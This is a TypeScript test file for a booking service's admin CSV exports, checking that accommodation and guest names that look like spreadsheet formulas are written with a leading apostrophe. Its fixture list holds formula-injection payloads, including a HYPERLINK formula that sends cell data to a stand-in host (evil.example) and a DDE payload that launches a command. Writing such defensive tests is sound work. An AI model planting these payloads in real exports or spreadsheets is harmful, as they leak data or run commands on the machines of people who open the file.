import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { insertBooking, makeAccommodation } from '../support/factories.ts';
import { createTestApp, type TestApp } from '../support/test-app.ts';
import { testStoreKind } from '../support/test-store.ts';

// docs/api.md#admin-reports-csv: every CSV the service writes guards a text cell that a
// spreadsheet would run as a formula; the figures the service writes stay numbers.

let t: TestApp;
before(async () => {
  t = await createTestApp();
});
after(async () => {
  await t.close();
});

const FORMULA_NAMES = [
  '=HYPERLINK("https://evil.example/?"&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

describe(`CSV cells that look like formulas (${testStoreKind})`, () => {
  test('the occupancy report CSV writes a formula-looking accommodation name as text, its figures as numbers', async () => {
    const homes = [];
    for (const name of FORMULA_NAMES) {
      const home = await makeAccommodation(t.ctx.db, { name });
      homes.push(home);
      await insertBooking(t.ctx.db, home, {
        checkin: '2031-03-10',
        checkout: '2031-03-12',
        row: { total: 27_550, created_at: '2031-01-10T12:00:00.000Z', confirmed_at: '2031-01-10T12:00:00.000Z' },
      });
    }
    const res = await t.admin('GET', '/admin/api/reports/occupancy.csv?from=2031-03-01&to=2031-04-01');
    assert.equal(res.statusCode, 200, res.body);
    const rows = parse<Record<string, string>>(res.rawPayload, { bom: true, columns: true });
    const byId = new Map(rows.filter((r) => r.row === 'accommodation').map((r) => [r.accommodation_id, r]));
    for (const home of homes) {
      const row = byId.get(String(home.id));
      assert.ok(row, `a row for ${home.name}`);
      assert.equal(row.accommodation, `'${home.name}`, 'the name starts with an apostrophe');
      assert.equal(row.revenue, '275.50');
      assert.equal(row.nights_booked, '2');
    }
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `${column} of ${row.accommodation ?? ''} is not a formula`);
  });

  test('the bookings CSV guards a guest name and an imported calendar name the same way', async () => {
    const home = await makeAccommodation(t.ctx.db, { name: 'Plain House' });
    await insertBooking(t.ctx.db, home, {
      checkin: '2031-05-10',
      checkout: '2031-05-12',
      row: { guest_first_name: '=1+1', guest_last_name: '', total: 10_000 },
    });
    const res = await t.admin('GET', `/admin/api/bookings.csv?accommodation_id=${String(home.id)}`);
    assert.equal(res.statusCode, 200, res.body);
    const [row] = parse<Record<string, string>>(res.rawPayload, { bom: true, columns: true });
    assert.equal(row?.guest, "'=1+1");
    assert.equal(row?.total, '100.00');
  });
});
